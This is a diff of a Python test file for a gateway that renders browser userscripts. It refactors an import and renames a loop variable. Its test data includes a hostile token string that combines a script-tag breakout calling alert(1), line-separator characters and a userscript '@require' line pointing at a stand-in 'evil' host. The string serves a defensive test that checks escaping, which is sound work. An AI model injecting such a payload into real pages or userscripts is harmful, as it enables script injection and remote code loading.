@@ -11,10 +11,11 @@ import pytest_twisted
 from twisted.internet.address import IPv4Address, IPv6Address
 from twisted.internet.threads import deferToThread
 
-from conftest import call
 from lmarena_gateway.config import GatewayConfig
 from lmarena_gateway.errors import ApiError
 from lmarena_gateway.userscript import gateway_url_for, js_literal, render_script
+
+from support.client import call
 
 DOMAINS = ("lmarena.ai", "canary.lmarena.ai")
 HOSTILE = 'x"</script><script>alert(1)</script>\u2028\u2029\n// @require https://evil/'
@@ -96,7 +97,7 @@ def test_the_update_url_carries_the_token_percent_encoded():
 def test_hostile_token_cannot_leave_its_string():
     text = render(registration_token=HOSTILE)
     assert setting(text, "REGISTRATION_TOKEN") == HOSTILE
-    line = next(l for l in text.split("\n") if "REGISTRATION_TOKEN =" in l)
+    line = next(ln for ln in text.split("\n") if "REGISTRATION_TOKEN =" in ln)
     for bad in ("<", ">", "\u2028", "\u2029"):
         assert bad not in line
     assert "</script" not in text.lower()
